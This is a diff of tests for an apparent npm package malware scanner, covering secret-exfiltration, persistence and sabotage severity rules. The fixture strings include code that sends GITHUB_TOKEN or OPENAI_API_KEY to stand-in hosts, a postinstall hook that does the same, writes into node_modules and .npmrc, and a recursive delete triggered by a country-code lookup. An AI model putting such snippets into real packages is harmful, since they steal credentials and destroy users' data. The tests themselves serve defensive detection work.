@@ -187,14 +187,38 @@ test('replacing fetch is low alone and high with wallet-address matching', async
   ]);
 });
 
-test('a tool sending its own token to the service it is named after is medium at runtime; elsewhere or harvesting is high', async () => {
+test('a tool sending its own token to the service it is named after is low at runtime; elsewhere or harvesting is high', async () => {
   const send = (host: string, name: string) =>
     rules({
       'package.json': pkg({ main: 'i.js' }),
       'i.js': `fetch('https://${host}/x', { headers: { authorization: 'token ' + process.env.${name} } });\n`,
     });
-  assert.deepEqual(await send('api.github.invalid', 'GITHUB_TOKEN'), ['content/secret-exfiltration:medium']);
-  assert.deepEqual(await send('api.openai.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:medium']);
+  assert.deepEqual(await send('api.github.invalid', 'GITHUB_TOKEN'), ['content/secret-exfiltration:low']);
+  assert.deepEqual(await send('api.openai.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:low']);
+  const own = (
+    await run({
+      'package.json': pkg({ main: 'i.js' }),
+      'i.js': "fetch('https://api.github.invalid/x', { headers: { authorization: process.env.GITHUB_TOKEN } });\n",
+    })
+  ).findings.find((f) => f.rule === 'content/secret-exfiltration');
+  assert.match(own?.title ?? '', /to the service it is named after \(api\.github\.invalid\)/);
+  // The same token at install is still theft: install code has no business sending it anywhere.
+  assert.deepEqual(
+    await rules({
+      'package.json': pkg({ scripts: { postinstall: 'node i.js' } }),
+      'i.js': "fetch('https://api.github.invalid/x', { headers: { authorization: process.env.GITHUB_TOKEN } });\n",
+    }),
+    ['content/secret-exfiltration:critical'],
+  );
+  // Address unknown in this file (a constant from elsewhere): not proven to be its own service.
+  assert.deepEqual(
+    await rules({
+      'package.json': pkg({ main: 'i.js' }),
+      'i.js': "const { BASE } = require('./c');\nfetch(`${BASE}x`, { headers: { authorization: process.env.GITHUB_TOKEN } });\n",
+      'c.js': "exports.BASE = 'https://api.github.invalid/';\n",
+    }),
+    ['content/secret-exfiltration:medium'],
+  );
   assert.deepEqual(await send('collect.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:high']);
   assert.deepEqual(
     await rules({
@@ -245,4 +269,47 @@ test('a request handler that deletes files when a request field equals a fixed v
   ]);
   // Clearing a cache on an ordinary condition is not a trigger.
   assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js('process.env.CLEAN === "1"') }), []);
+});
+
+test('another package means a package name after node_modules/: tool caches, directory matchers, globs and $-names are not one', async () => {
+  const write = (target: string) =>
+    rules({
+      'package.json': pkg({ main: 'i.js' }),
+      'i.js': `const fs = require('fs');\nconst path = require('path');\nconst p = ${target};\nfs.writeFileSync(p, '{}');\n`,
+    });
+  assert.deepEqual(await write("path.join(process.cwd(), 'node_modules', '.cache', 'tool', 'x.json')"), []);
+  assert.deepEqual(await write("'node_modules/$app/tsconfig.json'"), []);
+  assert.deepEqual(await write("['!**/node_modules/**', process.argv[2]].pop()"), []);
+  assert.deepEqual(await write("['/node_modules/'][0] + process.argv[2]"), []);
+  assert.deepEqual(await write("path.join(process.cwd(), 'node_modules', 'left-pad', 'index.js')"), ['content/persistence:medium']);
+  assert.deepEqual(await write("path.join(process.cwd(), 'node_modules', '@scope/pkg', 'index.js')"), ['content/persistence:medium']);
+  assert.deepEqual(await write("path.join(process.cwd(), 'node_modules', process.argv[2], 'index.js')"), ['content/persistence:medium']);
+});
+
+test('test code nothing loads writing fixtures into node_modules or .npmrc is low; the same code reached from main is medium', async () => {
+  const body =
+    "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfs.writeFileSync(path.join(os.tmpdir(), 'node_modules', 'robot', 'index.js'), 'x');\nfs.writeFileSync(path.join(os.tmpdir(), '.npmrc'), 'registry=http://127.0.0.1/');\n";
+  assert.deepEqual(
+    await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': 'module.exports = 1;\n', 'test/api.test.js': body }),
+    ['content/persistence:low'],
+  );
+  assert.deepEqual(
+    await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': "require('./test/api.test.js');\n", 'test/api.test.js': body }),
+    ['content/persistence:medium'],
+  );
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': 'module.exports = 1;\n', 'lib/setup.js': body }), [
+    'content/persistence:medium',
+  ]);
+});
+
+test('a destructured country field looked up in a literal list gates a delete: sabotage', async () => {
+  const gate = (cond: string) =>
+    rules({
+      'package.json': pkg({ main: 'i.js' }),
+      'i.js': `const fs = require('fs');\n(async () => {\n  const { countryCode } = await (await fetch('https://geo.invalid/json')).json();\n  if (${cond}) fs.rmSync(process.cwd(), { recursive: true });\n})();\n`,
+    });
+  assert.deepEqual(await gate("['XA', 'XB'].includes(countryCode)"), ['content/sabotage:high']);
+  assert.deepEqual(await gate("['XA', 'XB'].indexOf(countryCode) >= 0"), ['content/sabotage:high']);
+  // A list lookup of something that is not a geo field is not a gate.
+  assert.deepEqual(await gate("['XA', 'XB'].includes(process.argv[2])"), []);
 });
